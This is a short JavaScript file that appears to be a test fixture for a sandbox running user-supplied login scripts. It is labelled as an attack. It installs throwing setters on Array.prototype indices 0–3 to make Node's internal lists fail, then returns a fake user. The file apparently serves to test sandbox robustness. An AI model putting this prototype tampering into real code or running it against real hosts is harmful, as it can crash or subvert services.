// attack: give every array setters for its first places, which Node's own lists fall over
// outcome: any
function login(email, password, callback) {
  for (const index of [0, 1, 2, 3]) {
    Object.defineProperty(Array.prototype, index, {
      set() {
        throw new Error('set');
      },
    });
  }
  callback(null, { user_id: 1 });
}
